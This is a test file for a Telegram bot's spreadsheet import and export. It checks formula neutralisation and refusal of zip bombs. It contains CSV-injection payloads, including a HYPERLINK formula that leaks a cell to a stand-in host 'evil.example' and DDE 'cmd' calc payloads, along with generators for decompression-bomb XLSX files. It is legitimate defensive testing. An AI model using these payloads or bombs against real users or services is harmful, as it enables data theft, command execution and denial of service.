/**
 * Spreadsheets in and out.
 * Out: no user text becomes a live formula in any CSV the bot writes (directory.csv, offers.csv,
 * claim-codes.csv); the files are parsed back to check every cell.
 * In: /import reads streaming within limits. A zip bomb (a small XLSX unpacking to hundreds of MB) is
 * refused with a reason while memory stays bounded; a 100,000-row CSV reports the rows beyond the limit;
 * the uploaded file lives in the blob store, not in the conversation state.
 */
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { KvModel } from '../../models/kv.js';
import { OfferModel } from '../../models/offer.js';
import { DB_FILE } from '../../services/store/embedded.js';
import { ImportRefused, readTable, type ReadLimits, DEFAULT_READ_LIMITS } from '../../services/import-reader.js';
import { neutraliseFormula, unneutraliseFormula } from '../../services/spreadsheet.js';
import { startTestApp, type TestApp } from '../helpers/app.js';
import type { FakeUser, SentMessage } from '../helpers/fake-telegram.js';
import { zip } from '../helpers/zip.js';

/** Payloads that spreadsheets would run or interpret (OWASP CSV injection). */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&B2,"Click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=1+1',
];

type Part = string | (() => Iterable<string>) | { content: () => Iterable<string>; declaredSize: number };

/** A workbook from its parts; large parts are generated and deflated streaming (tests/helpers/zip.ts). */
function xlsx(parts: Record<string, Part>): Promise<Buffer> {
  return zip(Object.entries(parts).map(([name, p]) => (typeof p === 'object' ? { name, ...p } : { name, content: p })));
}

const WORKBOOK = {
  '[Content_Types].xml': '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
  'xl/workbook.xml': '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
  'xl/_rels/workbook.xml.rels': '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
};
const SHEET_HEAD = '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
const SHEET_TAIL = '</sheetData></worksheet>';
const MB = 1024 * 1024;

const ROW = '<row r="2"><c r="A2" t="inlineStr"><is><t>Stupina Dulce</t></is></c><c r="B2" t="inlineStr"><is><t>069123456</t></is></c><c r="C2" t="inlineStr"><is><t>Soroca</t></is></c></row>';
const ROWS_PER_MB = Math.ceil(MB / ROW.length);

/** `mb` MB of sheet rows (ROWS_PER_MB each), compressing to a few hundred KB. */
function bombRows(mb: number) {
  return function* () {
    yield SHEET_HEAD;
    const block = ROW.repeat(ROWS_PER_MB);
    for (let i = 0; i < mb; i++) yield block;
    yield SHEET_TAIL;
  };
}

/** Reads under observation: the result (or refusal) and the peak RSS growth while reading. */
async function observed(data: Buffer, name: string, limits?: ReadLimits) {
  globalThis.gc?.();
  const before = process.memoryUsage().rss;
  let peak = before;
  const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 5);
  try {
    const table = await readTable(data, name, limits);
    return { table, error: undefined, growthMb: (Math.max(peak, process.memoryUsage().rss) - before) / MB };
  } catch (error) {
    return { table: undefined, error: error as Error, growthMb: (Math.max(peak, process.memoryUsage().rss) - before) / MB };
  } finally {
    clearInterval(timer);
  }
}

describe('reading spreadsheets within limits', () => {
  it('refuses a zip bomb of many rows (≈200 MB unpacked from a small file) with a reason, memory bounded', async () => {
    const bomb = await xlsx({ ...WORKBOOK, 'xl/worksheets/sheet1.xml': bombRows(200) });
    expect(bomb.length).toBeLessThan(2 * MB);
    const r = await observed(bomb, 'bomb.xlsx');
    expect(r.error).toBeInstanceOf(ImportRefused);
    expect((r.error as ImportRefused).reason).toBe('too_large_unpacked');
    expect((r.error as ImportRefused).params).toEqual({ limit: 80 });
    expect(r.growthMb).toBeLessThan(150);
  }, 120_000);

  it('refuses a bomb hidden in one giant cell or in the shared strings, memory bounded', async () => {
    const giantCell = await xlsx({
      ...WORKBOOK,
      'xl/worksheets/sheet1.xml': function* () {
        yield `${SHEET_HEAD}<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row><row r="2"><c r="A2"><v>`;
        const block = '9'.repeat(MB);
        for (let i = 0; i < 70; i++) yield block;
        yield `</v></c></row>${SHEET_TAIL}`;
      },
    });
    let r = await observed(giantCell, 'cell.xlsx');
    expect((r.error as ImportRefused).reason).toBe('cell_too_long');
    expect((r.error as ImportRefused).params).toEqual({ limit: 5000, row: 2, column: 'A' });
    expect(r.growthMb).toBeLessThan(150);

    const strings = await xlsx({
      ...WORKBOOK,
      'xl/sharedStrings.xml': function* () {
        yield '<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">';
        const block = '<si><t>x</t></si>'.repeat(MB / 16);
        for (let i = 0; i < 300; i++) yield block;
        yield '</sst>';
      },
      'xl/worksheets/sheet1.xml': `${SHEET_HEAD}<row r="1"><c r="A1" t="s"><v>0</v></c></row>${SHEET_TAIL}`,
    });
    r = await observed(strings, 'strings.xlsx');
    expect((r.error as ImportRefused).reason).toBe('too_large_unpacked');
    expect(r.growthMb).toBeLessThan(150);

    // A forged archive that declares 1 MB for a 300 MB sheet: the inflated bytes are counted, not trusted.
    const forged = await xlsx({ ...WORKBOOK, 'xl/worksheets/sheet1.xml': { content: bombRows(300), declaredSize: MB } });
    r = await observed(forged, 'forged.xlsx');
    expect((r.error as ImportRefused).reason).toBe('too_large_unpacked');
    expect(r.growthMb).toBeLessThan(150);
  }, 120_000);

  it('counts the rows beyond the limit of a large sheet without keeping them', async () => {
    const big = await xlsx({ ...WORKBOOK, 'xl/worksheets/sheet1.xml': bombRows(40) });
    const r = await observed(big, 'big.xlsx');
    expect(r.error).toBeUndefined();
    expect(r.table!.rows).toHaveLength(DEFAULT_READ_LIMITS.maxRows + 1);
    // Every row of the generated sheet is either kept or counted.
    expect(r.table!.rows.length + r.table!.extraRows).toBe(40 * ROWS_PER_MB);
  }, 120_000);

  it('refuses too many columns and too long cells, naming where; garbage is "unreadable"', async () => {
    const wide = [Array.from({ length: 61 }, (_, i) => `c${i}`).join(','), 'a,b'].join('\n');
    await expect(readTable(Buffer.from(wide), 'wide.csv')).rejects.toMatchObject({ reason: 'too_many_columns', params: { limit: 60, row: 1 } });
    const long = ['name,phone', `${'x'.repeat(5001)},1`].join('\n');
    await expect(readTable(Buffer.from(long), 'long.csv')).rejects.toMatchObject({ reason: 'cell_too_long', params: { row: 2, column: 'A' } });
    await expect(readTable(Buffer.from('PK\u0003\u0004 not really a zip'), 'x.xlsx')).rejects.toMatchObject({ reason: 'unreadable' });
    await expect(readTable(Buffer.from(`name\n"${'x'.repeat(100_000)}`), 'q.csv')).rejects.toMatchObject({ reason: 'cell_too_long' });
  });

  it('reads an export back unchanged: neutralised cells lose their guard again', () => {
    for (const h of HOSTILE) {
      expect(neutraliseFormula(h)).toBe(`'${h}`);
      expect(unneutraliseFormula(neutraliseFormula(h))).toBe(h);
    }
    for (const plain of ['-5', '+37369123456', '12.50', 'Stupina', "'quoted already", '']) expect(neutraliseFormula(plain)).toBe(plain);
  });
});

describe('import and export end to end', () => {
  let t: TestApp;
  let admin: FakeUser;

  beforeAll(async () => {
    t = await startTestApp({ env: { STAFF_TELEGRAM_IDS: '9301' } });
    admin = t.tg.user(9301, { language_code: 'en' });
    await admin.say('/start', 'Hello');
  }, 30_000);
  afterAll(async () => t?.close());

  // Blobs are rows of the store's own database (the `_blobs` table of DATA_DIR/store.sqlite), not files: list
  // them through a read-only connection to that file (the app's store is wrapped by the test helpers).
  const blobs = (): string[] => {
    const db = new Database(join(t.dataDir, DB_FILE), { readonly: true, fileMustExist: true });
    try {
      return (db.prepare('SELECT id FROM _blobs').all() as { id: string }[]).map((r) => r.id);
    } finally {
      db.close();
    }
  };
  const conversationBytes = async () => {
    const e = await t.app.services.store.collection(KvModel).findById('conversations:9301');
    return e?.value.length ?? 0;
  };

  async function upload(data: Buffer, name: string, needle: string | RegExp): Promise<SentMessage> {
    await admin.say('/import', '.csv or .xlsx');
    const since = admin.messages().length;
    admin.sendDocument(data, name);
    return admin.expect(needle, { since, timeoutMs: 60_000 });
  }

  it('a zip bomb sent to /import is refused with the reason; nothing is kept', async () => {
    const before = blobs().length;
    const bomb = await xlsx({ ...WORKBOOK, 'xl/worksheets/sheet1.xml': bombRows(250) });
    const m = await upload(bomb, 'firms.xlsx', 'cannot be imported');
    expect(m.text).toContain('unpacked, it is larger than 80 MB');
    expect(blobs().length).toBe(before);
    expect(await t.app.services.directory.listings.count({})).toBe(0);
  }, 120_000);

  it('100,000 CSV rows: the first 5000 are checked, the other 95,000 reported; the file stays out of the conversation', async () => {
    const lines = ['Denumire;Telefon;Raion'];
    for (let i = 0; i < 100_000; i++) lines.push(`Firma ${i};0691${String(i % 100_000).padStart(5, '0')};Soroca`);
    const csv = Buffer.from(lines.join('\n'));
    expect(csv.length).toBeGreaterThan(2 * MB);
    const before = blobs().length;
    await upload(csv, 'mare.csv', 'Columns I recognised');
    // While the columns are being mapped the file is a blob, and the conversation holds only a few KB.
    expect(blobs().length).toBe(before + 1);
    // The upload is not public, although it sits in the blob store with the photos.
    const uploaded = blobs().find((b) => b.endsWith('.bin'))!;
    expect((await fetch(`${t.app.url}/media/${uploaded}`)).status).toBe(404);
    expect(await conversationBytes()).toBeLessThan(20_000);
    const report = await admin.tap('imp:ok', 'Trial run');
    expect(report.text).toContain('5000 rows can be imported, 0 rejected');
    expect(report.text).toContain('95000 more rows after the first 5000 were not read');
    expect(await conversationBytes()).toBeLessThan(20_000);
    await admin.tap('imp:cancel', 'Discarded');
    expect(blobs().length).toBe(before);
    expect(await t.app.services.directory.listings.count({})).toBe(0);
  }, 120_000);

  it('hostile names go in as text and come out neutralised in directory.csv, offers.csv and claim-codes.csv', async () => {
    const rows = HOSTILE.map((h, i) => `"${h.replace(/"/g, '""')}";06955${String(i).padStart(4, '0')};Drochia`);
    await upload(Buffer.from(['Denumire;Telefon;Raion', ...rows].join('\n')), 'rau.csv', 'Columns I recognised');
    await admin.tap('imp:ok', 'Trial run');
    const since = t.tg.sent.length;
    await admin.tap('imp:pending', 'Imported');
    const codesDoc = await t.tg.waitUntil(() => t.tg.sent.slice(since).find((m) => m.document?.filename === 'claim-codes.csv'));
    const stored = await t.app.services.directory.listings.find({ districtId: 'md-drochia' });
    // Leading tab/CR are trimmed as whitespace on import; every other payload is stored as typed.
    expect(stored.map((l) => l.name).sort()).toEqual(HOSTILE.map((h) => h.trim()).sort());

    const listing = stored[0];
    await t.app.services.store.collection(OfferModel).insert({
      ownerId: 'u1', listingId: listing._id, lagId: listing.lagId, country: 'MD', districtId: listing.districtId, kind: 'offer', type: PARTNER_TYPE,
      sectors: ['A'], title: '=HYPERLINK("http://evil.example","x")', description: '@SUM(1)', keywords: ['+1'], validUntil: new Date(Date.now() + 86_400_000),
    });
    const exportSince = t.tg.sent.length;
    admin.send('/export');
    const dir = await t.tg.waitUntil(() => t.tg.sent.slice(exportSince).find((m) => m.document?.filename === 'directory.csv'));
    const offers = await t.tg.waitUntil(() => t.tg.sent.slice(exportSince).find((m) => m.document?.filename === 'offers.csv'));

    for (const doc of [codesDoc, dir, offers]) {
      const cells = (parse(doc.document!.data!.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
      const live = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(c));
      expect(live, `${doc.document!.filename} has live formula cells`).toEqual([]);
      expect(cells.some((c) => c.startsWith("'=") || c.startsWith("'@") || c.startsWith("'+"))).toBe(true);
    }
    const dirText = dir.document!.data!.toString('utf8');
    expect(dirText).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&B2,""Click"")"`);
    // Phone numbers are plain numbers: left as they are.
    expect(dirText).toContain(',+37369550000,');
  }, 120_000);
});

const PARTNER_TYPE = 'supplier';
